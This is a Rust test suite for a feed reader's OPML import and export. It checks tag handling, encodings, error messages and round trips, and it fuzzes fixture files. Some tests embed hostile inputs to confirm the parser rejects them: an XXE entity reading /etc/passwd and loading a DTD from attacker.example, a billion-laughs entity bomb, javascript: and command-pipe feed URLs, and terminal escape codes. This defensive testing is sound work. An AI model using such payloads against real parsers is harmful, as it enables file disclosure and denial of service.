//! Tests of OPML import and export.
use super::*;
use std::path::Path;
use std::time::{Duration, Instant};

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/opml");
const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/feeds");

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{FIXTURES}/{name}");
    std::fs::read(&path).unwrap_or_else(|e| panic!("cannot read {path}: {e}"))
}

fn parse(doc: &str) -> OpmlImport {
    parse_opml(doc.as_bytes(), false).expect("the test document parses")
}

/// An OPML document with the given body.
fn opml(body: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<opml version=\"2.0\">\n<head><title>t</title></head>\n<body>\n{body}\n</body>\n</opml>\n"
    )
}

fn urls(import: &OpmlImport) -> Vec<&str> {
    import.feeds.iter().map(|f| f.url.as_str()).collect()
}

fn feed<'a>(import: &'a OpmlImport, url: &str) -> &'a OpmlEntry {
    import
        .feeds
        .iter()
        .find(|f| f.url == url)
        .unwrap_or_else(|| panic!("no feed {url} in {:?}", import.feeds))
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

fn reason<'a>(import: &'a OpmlImport, what: &str) -> &'a str {
    import
        .skipped
        .iter()
        .find(|(w, _)| w == what)
        .map(|(_, why)| why.as_str())
        .unwrap_or_else(|| panic!("{what} was not skipped: {:?}", import.skipped))
}

#[test]
fn nested_folders_become_tags_outermost_first() {
    let import = parse(&opml(
        r#"<outline text="Tech">
             <outline text="Rust" title="ignored for folders">
               <outline type="rss" text="This Week" xmlUrl="https://this-week-in-rust.org/rss.xml"/>
               <outline title="Empty folder"/>
             </outline>
             <outline type="rss" title="LWN" xmlUrl="https://lwn.net/headlines/rss"/>
           </outline>
           <outline title="Titled folder"><outline xmlUrl="https://a.example/feed"/></outline>
           <outline type="rss" text="Top" xmlUrl="https://top.example/feed"/>"#,
    ));
    assert_eq!(
        urls(&import),
        [
            "https://this-week-in-rust.org/rss.xml",
            "https://lwn.net/headlines/rss",
            "https://a.example/feed",
            "https://top.example/feed",
        ]
    );
    let twir = feed(&import, "https://this-week-in-rust.org/rss.xml");
    assert_eq!(twir.tags, strings(&["Tech", "Rust"]));
    assert_eq!(twir.title.as_deref(), Some("This Week"));
    assert_eq!(
        feed(&import, "https://lwn.net/headlines/rss").tags,
        strings(&["Tech"])
    );
    assert_eq!(
        feed(&import, "https://a.example/feed").tags,
        strings(&["Titled folder"])
    );
    assert!(feed(&import, "https://top.example/feed").tags.is_empty());
    assert!(import.skipped.is_empty(), "{:?}", import.skipped);
}

#[test]
fn category_attribute_adds_tags() {
    let import = parse(&opml(
        r#"<outline text="Folder">
             <outline xmlUrl="http://a.example/" category="/Tech/News,/b, ,Folder,/b,plain"/>
           </outline>
           <outline xmlUrl="http://b.example/" category=" / , root1 / , root2// /node2 ,,"/>"#,
    ));
    assert_eq!(
        feed(&import, "http://a.example/").tags,
        strings(&["Folder", "Tech/News", "b", "plain"])
    );
    assert_eq!(
        feed(&import, "http://b.example/").tags,
        strings(&["root1", "root2/node2"])
    );
}

#[test]
fn duplicate_urls_are_skipped_and_their_tags_merged() {
    let import = parse(&opml(
        r#"<outline text="One"><outline text="First" xmlUrl="https://dup.example/feed"/></outline>
           <outline text="Two"><outline text="Second" xmlUrl=" https://dup.example/feed "/></outline>
           <outline text="Again" xmlUrl="HTTPS://DUP.example/feed"/>"#,
    ));
    assert_eq!(import.feeds.len(), 1);
    let only = &import.feeds[0];
    assert_eq!(only.title.as_deref(), Some("First"));
    assert_eq!(only.tags, strings(&["One", "Two"]));
    assert_eq!(
        import.skipped,
        vec![
            (
                "https://dup.example/feed".to_string(),
                "duplicate".to_string()
            ),
            (
                "HTTPS://DUP.example/feed".to_string(),
                "duplicate".to_string()
            ),
        ]
    );
}

#[test]
fn commands_and_other_schemes_are_skipped() {
    let import = parse(&opml(
        r#"<outline text="pipe" xmlUrl="|~/bin/fetch_tweets.py"/>
           <outline text="exec" xmlUrl="exec:~/bin/feed.sh"/>
           <outline text="filter" xmlUrl="filter:~/bin/f.pl:https://example.com/x"/>
           <outline text="js" xmlUrl="javascript:alert(1)"/>
           <outline text="JS" xmlUrl="  JavaScript:alert(1)"/>
           <outline text="query" xmlUrl="query:Unread:unread = &quot;yes&quot;"/>
           <outline text="data" xmlUrl="data:text/xml,&lt;rss/&gt;"/>
           <outline text="ftp" xmlUrl="ftp://example.com/feed.xml"/>
           <outline text="no host" xmlUrl="http://"/>
           <outline text="relative" xmlUrl="feed.xml"/>
           <outline text="empty" xmlUrl="   "/>
           <outline text="ok" xmlUrl="  https://ok.example/feed  "/>"#,
    ));
    assert_eq!(urls(&import), ["https://ok.example/feed"]);
    for what in [
        "|~/bin/fetch_tweets.py",
        "exec:~/bin/feed.sh",
        "filter:~/bin/f.pl:https://example.com/x",
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "query:Unread:unread = \"yes\"",
        "data:text/xml,<rss/>",
        "ftp://example.com/feed.xml",
        "feed.xml",
    ] {
        assert_eq!(reason(&import, what), "not an http(s) URL", "for {what}");
    }
    assert_eq!(reason(&import, "http://"), "invalid http(s) URL");
    assert_eq!(reason(&import, "empty"), "empty feed URL");
    assert_eq!(import.skipped.len(), 11);
}

#[test]
fn file_urls_only_when_allowed() {
    let doc = opml(
        r#"<outline text="file" xmlUrl="file:///home/me/feed.xml"/>
           <outline text="path" xmlUrl="/home/me/other%20feed.xml"/>
           <outline text="remote file" xmlUrl="file://server/share/feed.xml"/>
           <outline text="web" xmlUrl="https://example.com/feed"/>"#,
    );
    let strict = parse_opml(doc.as_bytes(), false).expect("parses");
    assert_eq!(urls(&strict), ["https://example.com/feed"]);
    assert!(reason(&strict, "file:///home/me/feed.xml").starts_with("file:// URL"));
    assert!(reason(&strict, "/home/me/other%20feed.xml").starts_with("local file path"));

    let local = parse_opml(doc.as_bytes(), true).expect("parses");
    assert_eq!(
        urls(&local),
        [
            "file:///home/me/feed.xml",
            "file:///home/me/other%2520feed.xml",
            "https://example.com/feed",
        ]
    );
    assert_eq!(
        reason(&local, "file://server/share/feed.xml"),
        "unusable file:// URL"
    );
}

#[test]
fn odd_attribute_cases_and_url_attribute() {
    let import = parse(&opml(
        r#"<OUTLINE TEXT="Upper" XMLURL="https://upper.example/" HTMLURL="https://upper.example/site"/>
           <outline text="lj" xmlURL="https://lj.example/"/>
           <outline Title="Mixed" xmlurl="https://lower.example/"/>
           <outline text="url attr" type="RSS" url="https://url.example/feed"/>
           <outline text="atom url" type="atom" url="https://atom.example/feed"/>
           <outline text="sublist" type="link" url="https://lists.example/more.opml"/>
           <outline text="include" type="include" url="https://lists.example/inc.opml"/>
           <outline text="page" url="https://not-a-feed.example/"/>
           <outline text="no url" type="rss"/>
           <outline text="site only" htmlUrl="https://site.example/"/>
           <outline text="site, empty feed" xmlUrl="" htmlUrl="https://site2.example/"/>
           <outline text="just a note"/>"#,
    ));
    assert_eq!(
        urls(&import),
        [
            "https://upper.example/",
            "https://lj.example/",
            "https://lower.example/",
            "https://url.example/feed",
            "https://atom.example/feed",
        ]
    );
    let upper = feed(&import, "https://upper.example/");
    assert_eq!(upper.title.as_deref(), Some("Upper"));
    assert_eq!(
        upper.site_link.as_deref(),
        Some("https://upper.example/site")
    );
    assert_eq!(
        feed(&import, "https://lower.example/").title.as_deref(),
        Some("Mixed")
    );
    assert!(reason(&import, "https://lists.example/more.opml").contains("not followed"));
    assert!(reason(&import, "https://lists.example/inc.opml").contains("not followed"));
    assert_eq!(reason(&import, "no url"), "no feed URL");
    assert!(reason(&import, "https://site.example/").contains("only a website"));
    assert!(reason(&import, "https://site2.example/").contains("only a website"));
    assert_eq!(import.skipped.len(), 5, "{:?}", import.skipped);
}

#[test]
fn title_falls_back_to_text_and_site_links_are_checked() {
    let import = parse(&opml(
        r#"<outline title="" text="From text" xmlUrl="https://a.example/" htmlUrl="javascript:alert(1)"/>
           <outline title="From title" text="not this" xmlUrl="https://b.example/" htmlUrl=" http://b.example "/>
           <outline xmlUrl="https://c.example/" htmlUrl=""/>"#,
    ));
    let a = feed(&import, "https://a.example/");
    assert_eq!(a.title.as_deref(), Some("From text"));
    assert_eq!(a.site_link, None);
    let b = feed(&import, "https://b.example/");
    assert_eq!(b.title.as_deref(), Some("From title"));
    assert_eq!(b.site_link.as_deref(), Some("http://b.example/"));
    let c = feed(&import, "https://c.example/");
    assert_eq!((c.title.as_deref(), c.site_link.as_deref()), (None, None));
}

#[test]
fn titles_and_tags_are_made_one_clean_line() {
    let import = parse(&opml(
        "<outline text=\"  Fol&#10;der\u{202E}  \u{85}x \">\
           <outline title=\"A\t\tB&#13;&#10;C\u{7}\u{7F}\u{9B}[31m \u{2066}D\u{2069}  \" xmlUrl=\"https://a.example/\"/>\
         </outline>",
    ));
    let a = feed(&import, "https://a.example/");
    assert_eq!(a.title.as_deref(), Some("A B C31m D"));
    assert_eq!(a.tags, strings(&["Fol der x"]));
    assert_eq!(clean_line("\u{1b}]0;evil\u{7} ok"), "ok");
    assert_eq!(clean_line(" \t\n "), "");
}

#[test]
fn entities_in_attributes() {
    let import = parse(&opml(
        r#"<outline text="Q&amp;A &lt;3 &quot;x&quot; &#233;&#xE9; &nbsp;&unknown; & bare"
                    xmlUrl="https://a.example/feed?x=1&amp;y=2"/>
           <outline text="raw amp" xmlUrl="https://b.example/feed?x=1&y=2"/>"#,
    ));
    let a = feed(&import, "https://a.example/feed?x=1&y=2");
    assert_eq!(a.title.as_deref(), Some("Q&A <3 \"x\" éé &unknown; & bare"));
    feed(&import, "https://b.example/feed?x=1&y=2");
    assert_eq!(
        unescape_lenient("arch&aelig;ology &Eacute;&yuml;&euro;&copy;&AELIG;"),
        "archæology Éÿ€©&AELIG;"
    );
    assert_eq!(
        unescape_lenient("&#0;&#xD800;&#x;&#12a;"),
        "&#0;&#xD800;&#x;&#12a;"
    );
}

#[test]
fn doctype_and_external_entities_are_never_read() {
    let doc = r#"<?xml version="1.0"?>
<!DOCTYPE opml [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
  <!ENTITY inner "https://inner.example/">
]>
<opml version="1.0"><body>
  <outline text="&xxe;" xmlUrl="https://a.example/"/>
  <outline text="inner" xmlUrl="&inner;"/>
  <outline text="text &xxe; node">&xxe;</outline>
</body></opml>"#;
    let import = parse_opml(doc.as_bytes(), true).expect("parses");
    assert_eq!(urls(&import), ["https://a.example/"]);
    assert_eq!(import.feeds[0].title.as_deref(), Some("&xxe;"));
    assert_eq!(reason(&import, "&inner;"), "not an http(s) URL");
}

#[test]
fn billion_laughs_returns_quickly() {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE opml [\n<!ENTITY lol \"lol\">\n");
    for level in 1..=9 {
        let previous = if level == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", level - 1)
        };
        let refs = format!("&{previous};").repeat(10);
        doc.push_str(&format!("<!ENTITY lol{level} \"{refs}\">\n"));
    }
    doc.push_str("]>\n<opml version=\"2.0\"><body>\n");
    for _ in 0..1000 {
        doc.push_str("<outline text=\"&lol9;\" title=\"&lol9;&lol9;\" xmlUrl=\"https://a.example/&lol9;\"/>\n");
    }
    doc.push_str("<outline text=\"&lol9;\">&lol9;&lol9;</outline>\n</body></opml>\n");

    let started = Instant::now();
    let result = parse_opml(doc.as_bytes(), false);
    assert!(started.elapsed() < Duration::from_secs(5));
    if let Ok(import) = result {
        assert!(import.feeds.len() <= 1);
        for entry in &import.feeds {
            assert!(entry.title.as_deref().is_none_or(|t| t.len() < 100));
            assert!(entry.url.len() < 100);
        }
    }
}

#[test]
fn deep_nesting_and_many_feeds_stay_cheap() {
    let depth = 100_000;
    let mut doc = String::from("<opml><body>");
    for level in 0..depth {
        doc.push_str(&format!("<outline text=\"f{level}\">"));
    }
    for n in 0..2_000 {
        doc.push_str(&format!(
            "<outline xmlUrl=\"https://a.example/{n}\" category=\"{}\"/>",
            "/x,".repeat(100)
        ));
    }
    doc.push_str(&"</outline>".repeat(depth));
    doc.push_str("</body></opml>");
    let started = Instant::now();
    let import = parse(&doc);
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(import.feeds.len(), 2_000);
    assert!(import.feeds.iter().all(|f| f.tags.len() == MAX_TAGS));
    assert_eq!(import.feeds[0].tags.first().map(String::as_str), Some("f0"));
}

#[test]
fn malformed_xml_is_an_error_with_a_position() {
    let cases = [
        "<opml><body><outline text=\"a\"></body></opml>",
        "<opml version=\"2.0\">\n<body>\n<outline xmlUrl=\"https://a.example/\"/>\n",
        "<opml><body><outline xmlUrl=\"https://a.example/></body></opml>",
        "<opml><body><outline xmlUrl=https://a.example/ /></body></opml>",
        "<opml><body></outline></body></opml>",
        "<opml><body><!-- never closed",
        "<opml><body><outline",
    ];
    for doc in cases {
        match parse_opml(doc.as_bytes(), false) {
            Err(OpmlError::Xml(message)) => {
                assert!(message.starts_with("line "), "{message}");
            }
            other => panic!("{doc:?} gave {other:?}"),
        }
    }
    let Err(error) = parse_opml(cases[1].as_bytes(), false) else {
        panic!("truncated document parsed");
    };
    assert_eq!(
        error.to_string(),
        "the OPML file is not well-formed XML: line 2, column 1: <body> is never closed (the file ends too early)"
    );
}

#[test]
fn documents_that_are_not_opml() {
    let cases: [&[u8]; 8] = [
        b"",
        b"   \n",
        b"<?xml version=\"1.0\"?>\n",
        b"<html><body><outline xmlUrl=\"https://a.example/\"/></body></html>",
        b"<not-opml version=\"1.0\"><body/></not-opml>",
        b"<opml version=\"1.0\"><head><title>no body</title></head></opml>",
        b"<opml version=\"1.0\"/>",
        b"<rss version=\"2.0\"><channel/></rss>",
    ];
    for doc in cases {
        let result = parse_opml(doc, false);
        assert!(
            matches!(result, Err(OpmlError::NotOpml)),
            "{:?} gave {result:?}",
            String::from_utf8_lossy(doc)
        );
    }
    assert_eq!(
        OpmlError::NotOpml.to_string(),
        "not an OPML subscription list (no <opml> root element with a <body>)"
    );
}

#[test]
fn lenient_structure() {
    // No version, no head, prefixed names, whitespace, outlines outside <body> ignored,
    // an empty body, junk after the root element ignored.
    let import = parse(concat!(
        "\n\n  <opml>\n<head><outline xmlUrl=\"https://head.example/\"/></head>",
        "<body>\r\n\t<x:outline xmlns:x=\"urn:x\" xmlUrl=\"https://a.example/\" />\n",
        "<other><outline xmlUrl=\"https://nested.example/\"/></other>\n",
        "</body>\n</opml>\n<opml><body><outline xmlUrl=\"https://after.example/\"/></body></opml>",
    ));
    assert_eq!(
        urls(&import),
        ["https://a.example/", "https://nested.example/"]
    );
    let empty = parse("<opml version=\"2.0\"><head/><body/></opml>");
    assert!(empty.feeds.is_empty() && empty.skipped.is_empty());
}

#[test]
fn encodings() {
    // UTF-8 with BOM.
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend_from_slice(
        opml(r#"<outline text="Caf&#233; é" xmlUrl="https://a.example/"/>"#).as_bytes(),
    );
    let import = parse_opml(&bom, false).expect("BOM");
    assert_eq!(import.feeds[0].title.as_deref(), Some("Café é"));

    // ISO-8859-1 as declared (and its windows-1252 reading of 0x80..0x9F).
    let latin1 = b"<?xml version='1.0' encoding='ISO-8859-1'?>\r<opml><body>\
        <outline text=\"Caf\xE9 \x80\" xmlUrl=\"https://a.example/\"/></body></opml>";
    let import = parse_opml(latin1, false).expect("latin-1");
    assert_eq!(import.feeds[0].title.as_deref(), Some("Café €"));

    // No declaration and not UTF-8: read as windows-1252.
    let undeclared =
        b"<opml><body><outline text=\"na\xEFve\" xmlUrl=\"https://a.example/\"/></body></opml>";
    let import = parse_opml(undeclared, false).expect("undeclared");
    assert_eq!(import.feeds[0].title.as_deref(), Some("naïve"));

    // Declared UTF-8 with a bad byte: replaced.
    let bad = b"<?xml version=\"1.0\" encoding=\"utf-8\"?><opml><body><outline text=\"a\xFFb\" xmlUrl=\"https://a.example/\"/></body></opml>";
    let import = parse_opml(bad, false).expect("bad utf-8");
    assert_eq!(import.feeds[0].title.as_deref(), Some("a\u{FFFD}b"));

    // UTF-16, both byte orders, with BOM and without.
    let doc =
        opml(r#"<outline text="Ünïcödé" xmlUrl="https://a.example/"/>"#).replace("UTF-8", "UTF-16");
    let le: Vec<u8> = doc.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let be: Vec<u8> = doc.encode_utf16().flat_map(u16::to_be_bytes).collect();
    for bytes in [
        [&[0xFF, 0xFE][..], &le].concat(),
        [&[0xFE, 0xFF][..], &be].concat(),
        le.clone(),
        be.clone(),
    ] {
        let import = parse_opml(&bytes, false).expect("utf-16");
        assert_eq!(import.feeds[0].title.as_deref(), Some("Ünïcödé"));
    }

    // Any declared encoding that encoding_rs knows; an unknown one only when the text is ASCII.
    let cyrillic = b"<?xml version=\"1.0\" encoding=\"windows-1251\"?><opml><body><outline text=\"\xcf\xf0\xe8\" xmlUrl=\"https://a.example/\"/></body></opml>";
    let import = parse_opml(cyrillic, false).expect("windows-1251");
    assert_eq!(import.feeds[0].title.as_deref(), Some("При"));
    let ascii = b"<?xml version=\"1.0\" encoding=\"x-klingon\"?><opml><body><outline text=\"a\" xmlUrl=\"https://a.example/\"/></body></opml>";
    assert_eq!(parse_opml(ascii, false).expect("ascii").feeds.len(), 1);
    let unknown = b"<?xml version=\"1.0\" encoding=\"x-klingon\"?><opml><body><outline text=\"\xcf\" xmlUrl=\"https://a.example/\"/></body></opml>";
    match parse_opml(unknown, false) {
        Err(OpmlError::Encoding(label)) => assert_eq!(label, "x-klingon"),
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        parse_opml(b"\0\0\xFE\xFF\0\0\0<", false),
        Err(OpmlError::Encoding(_))
    ));
}

#[test]
fn export_escapes_titles_and_urls() {
    let tags = strings(&["News & <Views>", "b\"q"]);
    let feeds = [ExportFeed {
        url: "https://example.com/feed?a=1&b=<2>&c=\"3\"",
        title: "Tom & Jerry <\"quoted\"> \u{1}\ttab",
        site_link: Some("https://example.com/?x=1&y=2"),
        tags: &tags,
        interval_minutes: None,
        full_text: false,
    }];
    let xml = write_opml(&feeds);
    assert!(
        xml.contains(r#"text="Tom &amp; Jerry &lt;&quot;quoted&quot;&gt; &#9;tab""#),
        "{xml}"
    );
    assert!(
        xml.contains(
            r#"xmlUrl="https://example.com/feed?a=1&amp;b=&lt;2&gt;&amp;c=&quot;3&quot;""#
        ),
        "{xml}"
    );
    assert!(
        xml.contains(r#"htmlUrl="https://example.com/?x=1&amp;y=2""#),
        "{xml}"
    );
    assert!(
        xml.contains(
            r#"<outline text="News &amp; &lt;Views&gt;" title="News &amp; &lt;Views&gt;">"#
        ),
        "{xml}"
    );
    assert!(
        xml.contains(r#"category="/News &amp; &lt;Views&gt;,/b&quot;q""#),
        "{xml}"
    );
    assert!(xml.starts_with(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<opml version=\"2.0\" xmlns:tidings=\"urn:tidings:opml:1\">"
    ));
    assert!(xml.contains("<title>tidings subscriptions</title>"));

    let import = parse(&xml);
    assert_eq!(import.feeds.len(), 1);
    let entry = &import.feeds[0];
    assert_eq!(
        entry.url,
        "https://example.com/feed?a=1&b=%3C2%3E&c=%223%22"
    );
    assert_eq!(entry.title.as_deref(), Some("Tom & Jerry <\"quoted\"> tab"));
    assert_eq!(
        entry.site_link.as_deref(),
        Some("https://example.com/?x=1&y=2")
    );
    assert_eq!(entry.tags, tags);
}

#[test]
fn round_trip_keeps_feeds_and_tags() {
    let tech = strings(&["Tech", "Rust"]);
    let rust = strings(&["Rust"]);
    let tech_only = strings(&["Tech"]);
    let nested = strings(&["Tech/News", "Tech"]);
    let none: Vec<String> = Vec::new();
    let feeds = [
        ExportFeed {
            url: "https://this-week-in-rust.org/rss.xml",
            title: "This Week in Rust",
            site_link: Some("https://this-week-in-rust.org/"),
            tags: &tech,
            interval_minutes: None,
            full_text: false,
        },
        ExportFeed {
            url: "https://lobste.rs/rss",
            title: "Lobsters",
            site_link: None,
            tags: &none,
            interval_minutes: None,
            full_text: false,
        },
        ExportFeed {
            url: "https://blog.rust-lang.org/feed.xml",
            title: "Rust Blog",
            site_link: Some("https://blog.rust-lang.org/"),
            tags: &rust,
            interval_minutes: None,
            full_text: false,
        },
        ExportFeed {
            url: "https://lwn.net/headlines/rss",
            title: "LWN.net",
            site_link: None,
            tags: &tech_only,
            interval_minutes: None,
            full_text: false,
        },
        ExportFeed {
            url: "https://news.example/feed?x=1&y=2",
            title: "Ünïcödé & more",
            site_link: None,
            tags: &nested,
            interval_minutes: None,
            full_text: false,
        },
    ];
    let xml = write_opml(&feeds);
    let import = parse(&xml);
    assert!(import.skipped.is_empty(), "{:?}", import.skipped);
    let expected: Vec<OpmlEntry> = feeds
        .iter()
        .map(|f| OpmlEntry {
            url: f.url.to_string(),
            title: Some(f.title.to_string()),
            site_link: f.site_link.map(str::to_string),
            tags: f.tags.to_vec(),
            interval_minutes: None,
            full_text: false,
        })
        .collect();
    let mut got = import.feeds.clone();
    got.sort_by(|a, b| a.url.cmp(&b.url));
    let mut want = expected;
    want.sort_by(|a, b| a.url.cmp(&b.url));
    assert_eq!(got, want);
    // Folder order follows the first feed of each tag; untagged feeds stay at top level.
    assert_eq!(
        urls(&import),
        [
            "https://this-week-in-rust.org/rss.xml",
            "https://lwn.net/headlines/rss",
            "https://lobste.rs/rss",
            "https://blog.rust-lang.org/feed.xml",
            "https://news.example/feed?x=1&y=2",
        ]
    );

    let empty = write_opml(&[]);
    let import = parse(&empty);
    assert!(import.feeds.is_empty() && import.skipped.is_empty());
}

#[test]
fn export_leaves_out_what_it_cannot_represent() {
    let tags = strings(&["", " ", "a,b", "c"]);
    let feeds = [ExportFeed {
        url: "https://a.example/",
        title: "",
        site_link: Some(" "),
        tags: &tags,
        interval_minutes: None,
        full_text: false,
    }];
    let xml = write_opml(&feeds);
    assert!(
        xml.contains("<outline text=\"a,b\" title=\"a,b\">"),
        "{xml}"
    );
    assert!(xml.contains("category=\"/c\""), "{xml}");
    assert!(!xml.contains("htmlUrl"), "{xml}");
    let import = parse(&xml);
    assert_eq!(import.feeds[0].tags, strings(&["a,b", "c"]));
    assert_eq!(import.feeds[0].title, None);
}

#[test]
fn fixture_newsboat_example() {
    let import = parse_opml(&fixture("newsboat/example.opml"), false).expect("parses");
    assert_eq!(import.feeds.len(), 7);
    assert!(import.skipped.is_empty());
    let mike = feed(&import, "https://blogs.example.com/~mike/.rss");
    assert_eq!(mike.tags, strings(&["Blogs", "friends"]));
    assert_eq!(mike.title.as_deref(), Some("Notes by Mike"));
    assert_eq!(
        feed(
            &import,
            "https://fred.example.com/writing/index.php?type=rss"
        )
        .tags,
        strings(&["eloquent"])
    );
    assert!(
        feed(&import, "https://example.com/feed.xml")
            .tags
            .is_empty()
    );
}

#[test]
fn fixture_newsboat_category() {
    let import = parse_opml(&fixture("newsboat/category.opml"), false).expect("parses");
    assert_eq!(import.feeds.len(), 1);
    let entry = &import.feeds[0];
    assert_eq!(
        entry.url,
        "http://feeds.bbci.co.uk/news/business/rss.xml?edition=int"
    );
    assert_eq!(entry.title, None);
    assert_eq!(entry.site_link, None);
    assert_eq!(entry.tags, strings(&["tag one", "tag_two", "tag/three"]));
}

#[test]
fn fixture_feedly_export() {
    let import = parse_opml(&fixture("baleen/feedly.opml"), false).expect("parses");
    assert_eq!(import.feeds.len(), 36);
    assert!(import.skipped.is_empty(), "{:?}", import.skipped);
    let wapo = feed(&import, "http://www.washingtonpost.com/rss/homepage");
    assert_eq!(
        wapo.title.as_deref(),
        Some("Washington Post: Breaking News, World, US, DC News & Analysis")
    );
    assert_eq!(wapo.tags, strings(&["news"]));
    let nyt = feed(
        &import,
        "http://www.nytimes.com/services/xml/rss/nyt/HomePage.xml",
    );
    assert_eq!(
        nyt.site_link.as_deref(),
        Some("http://www.nytimes.com/pages/index.html?partner=rss&emc=rss")
    );
    assert!(import.feeds.iter().all(|f| f.tags.len() == 1));
}

#[test]
fn fixture_iso_8859_1_opml_2() {
    let import = parse_opml(&fixture("picofeed/subscriptionList.opml"), false).expect("parses");
    assert!(import.feeds.len() >= 10, "{}", import.feeds.len());
    let cnet = feed(&import, "http://news.com.com/2547-1_3-0-5.xml");
    assert_eq!(cnet.title.as_deref(), Some("CNET News.com"));
    assert_eq!(cnet.site_link.as_deref(), Some("http://news.com.com/"));
}

#[test]
fn fixture_netnewswire_text_only() {
    let import =
        parse_opml(&fixture("netnewswire/SubsNoTitleAttributes.opml"), false).expect("parses");
    assert!(import.feeds.len() > 100, "{}", import.feeds.len());
    let chat = feed(
        &import,
        "http://corinnekrych.blogspot.com/feeds/posts/default",
    );
    assert_eq!(chat.title.as_deref(), Some("chat & code"));
    assert!(import.feeds.iter().all(|f| f.title.is_some()));
}

#[test]
fn fixture_commafeed_without_version() {
    let import = parse_opml(&fixture("commafeed/opml_noversion.xml"), false).expect("parses");
    assert_eq!(
        import.feeds,
        vec![OpmlEntry {
            url: "https://hostname.local/commafeed/feed1.xml".to_string(),
            title: Some("feed1".to_string()),
            site_link: Some("https://hostname.local/commafeed".to_string()),
            tags: strings(&["out1"]),
            interval_minutes: None,
            full_text: false,
        }]
    );
}

/// Every prefix and many byte mutations of every fixture: never a panic.
#[test]
fn no_panic_on_truncated_or_mutated_fixtures() {
    let mut files = Vec::new();
    collect_files(Path::new(FIXTURES), &mut files);
    let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let mut runs = 0;
    for path in files.iter().filter(|p| is_list(p)) {
        let bytes = std::fs::read(path).expect("fixture");
        let step = (bytes.len() / 300).max(1);
        for end in (0..bytes.len()).step_by(step) {
            let _ = parse_opml(&bytes[..end], end % 2 == 0);
            runs += 1;
        }
        for _ in 0..300 {
            let mut mutated = bytes.clone();
            for _ in 0..4 {
                if mutated.is_empty() {
                    break;
                }
                let at = (next() % mutated.len() as u64) as usize;
                let specials = b"<>&;\"'/=\0\xFF\xC3#x \n";
                let byte = specials[(next() % specials.len() as u64) as usize];
                match next() % 3 {
                    0 => mutated[at] = byte,
                    1 => mutated.insert(at, byte),
                    _ => {
                        mutated.remove(at);
                    }
                }
            }
            let _ = parse_opml(&mutated, true);
            runs += 1;
        }
    }
    assert!(runs > 1000, "{runs}");
}

fn is_list(path: &Path) -> bool {
    matches!(
        path.extension().and_then(|e| e.to_str()),
        Some("opml" | "xml")
    )
}

fn collect_files(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<_> = entries.filter_map(Result::ok).map(|e| e.path()).collect();
    entries.sort();
    for path in entries {
        if path.is_dir() {
            collect_files(&path, out);
        } else {
            out.push(path);
        }
    }
}

/// Every `*.opml` file of the shared corpus, and every file under its `opml/` folder (where
/// most lists are `*.xml`), parses without a panic.
#[test]
fn shared_corpus_never_panics() {
    let root = Path::new(CORPUS);
    if !root.is_dir() {
        println!("skipped: ../shared not present");
        return;
    }
    let mut files = Vec::new();
    collect_files(root, &mut files);
    let opml_dir = root.join("opml");
    let lists: Vec<_> = files
        .into_iter()
        .filter(|p| {
            p.extension().is_some_and(|e| e == "opml") || (p.starts_with(&opml_dir) && is_list(p))
        })
        .collect();
    let (mut ok, mut failed, mut feeds, mut skipped) = (0, 0, 0, 0);
    for path in &lists {
        let Ok(bytes) = std::fs::read(path) else {
            continue;
        };
        match parse_opml(&bytes, true) {
            Ok(import) => {
                ok += 1;
                feeds += import.feeds.len();
                skipped += import.skipped.len();
            }
            Err(_) => failed += 1,
        }
    }
    println!(
        "corpus: {} lists, {ok} read ({feeds} feeds, {skipped} skipped outlines), {failed} refused",
        lists.len()
    );
    assert!(lists.len() >= 10);
    assert!(ok > failed);
}
